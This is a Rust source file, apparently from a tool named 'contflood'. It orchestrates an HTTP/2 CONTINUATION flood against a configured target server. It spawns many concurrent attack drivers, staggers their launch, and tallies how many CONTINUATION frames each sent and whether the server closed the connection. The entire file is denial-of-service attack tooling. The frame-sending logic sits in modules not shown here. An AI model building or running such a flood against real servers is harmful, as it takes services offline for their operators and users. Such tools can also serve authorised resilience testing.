use crate::config::FloodConfig;
use crate::driver::{AttackDriver, DriverReport, FloodError, LoopOutcome};
use crate::stats::{FloodStats, StatsSnapshot, StreamIdAllocator};
use contflood_traits::Dialer;
use std::fmt;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio::time::{sleep, Instant};
use tracing::{error, info};

type Completion = Result<DriverReport, FloodError>;

/// Launches one driver per connection and waits for all of them.
pub struct Fleet {
    config: Arc<FloodConfig>,
    dialer: Arc<dyn Dialer>,
    stats: Arc<FloodStats>,
    stream_ids: Arc<StreamIdAllocator>,
}

impl Fleet {
    pub fn new(config: FloodConfig, dialer: Arc<dyn Dialer>) -> Self {
        Self {
            config: Arc::new(config),
            dialer,
            stats: Arc::new(FloodStats::new()),
            stream_ids: Arc::new(StreamIdAllocator::new()),
        }
    }

    /// Returns once every driver has signalled completion, or with the first
    /// fatal setup error. Dropping the task set on the error path aborts the
    /// drivers still running.
    pub async fn run(&self) -> Result<FleetSummary, FloodError> {
        let expected = self.config.connections;
        let started = Instant::now();
        info!(
            "Starting CONTINUATION flood against {} with {} connection(s), {:?} per connection",
            self.config.target, expected, self.config.time_limit
        );

        let (done_tx, mut done_rx) = mpsc::channel::<Completion>(expected.max(1));
        let mut drivers = JoinSet::new();
        let mut reports = Vec::with_capacity(expected);

        for id in 0..expected {
            let driver = AttackDriver::new(
                id,
                self.config.clone(),
                self.stats.clone(),
                self.stream_ids.clone(),
            );
            let dialer = self.dialer.clone();
            let done_tx = done_tx.clone();
            drivers.spawn(async move {
                let completion = driver.run(dialer.as_ref()).await;
                let _ = done_tx.send(completion).await;
            });
            info!("launched connection {}/{}", id + 1, expected);

            if id + 1 < expected && !self.config.launch_delay.is_zero() {
                let stagger = sleep(self.config.launch_delay);
                tokio::pin!(stagger);
                loop {
                    tokio::select! {
                        _ = &mut stagger => break,
                        Some(done) = done_rx.recv() => reports.push(absorb(done)?),
                    }
                }
            }
        }
        drop(done_tx);

        while reports.len() < expected {
            match done_rx.recv().await {
                Some(done) => reports.push(absorb(done)?),
                None => {
                    return Err(FloodError::Lost {
                        completed: reports.len(),
                        expected,
                    })
                }
            }
        }

        reports.sort_by_key(|r| r.driver);
        Ok(FleetSummary {
            completed: reports.len(),
            reports,
            stats: self.stats.snapshot(),
            elapsed: started.elapsed(),
        })
    }
}

fn absorb(done: Completion) -> Completion {
    match done {
        Ok(report) => {
            info!(
                "connection {} finished: stream {}, {} CONTINUATION frames, {:?}",
                report.driver, report.stream_id, report.continuations, report.outcome
            );
            Ok(report)
        }
        Err(e) => {
            error!("{}", e);
            Err(e)
        }
    }
}

#[derive(Debug, Clone)]
pub struct FleetSummary {
    pub completed: usize,
    /// Ordered by driver index.
    pub reports: Vec<DriverReport>,
    pub stats: StatsSnapshot,
    pub elapsed: Duration,
}

impl FleetSummary {
    pub fn stream_ids(&self) -> Vec<u32> {
        self.reports.iter().map(|r| r.stream_id).collect()
    }

    pub fn closed_by_peer(&self) -> usize {
        self.reports
            .iter()
            .filter(|r| r.outcome == LoopOutcome::PeerClosed)
            .count()
    }
}

impl fmt::Display for FleetSummary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "\n--- Summary ---")?;
        writeln!(f, "{}", self.stats)?;
        write!(
            f,
            "Connections: {} completed in {:.1}s, {} closed by the server",
            self.completed,
            self.elapsed.as_secs_f64(),
            self.closed_by_peer()
        )
    }
}
